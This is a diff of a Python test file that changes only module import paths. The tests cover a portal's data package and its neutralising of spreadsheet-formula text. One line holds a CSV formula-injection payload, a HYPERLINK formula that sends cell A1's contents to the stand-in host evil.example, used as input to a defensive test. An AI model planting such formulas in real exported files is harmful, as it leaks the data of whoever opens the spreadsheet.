@@ -63,7 +63,7 @@ def test_no_personal_contact_data_in_the_package(demo_site: Path) -> None:
 
 
 def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site_en: Path) -> None:
-    from cocreate.portal.i18n import Translator
+    from cocreate.i18n.translator import Translator
 
     for site, language in ((demo_site, "id"), (demo_site_en, "en")):
         note = Translator(language)("data.formulas")
@@ -78,7 +78,7 @@ def test_the_codebook_says_how_formulas_are_published(demo_site: Path, demo_site
 def test_contributed_texts_that_begin_like_formulas_are_neutralised(tmp_path: Path, minimal_text: str) -> None:
     from frictionless import validate
 
-    from cocreate.csvsafe import FORMULA_START
+    from cocreate.standard.csvsafe import FORMULA_START
     from conftest import build, make_portal
 
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
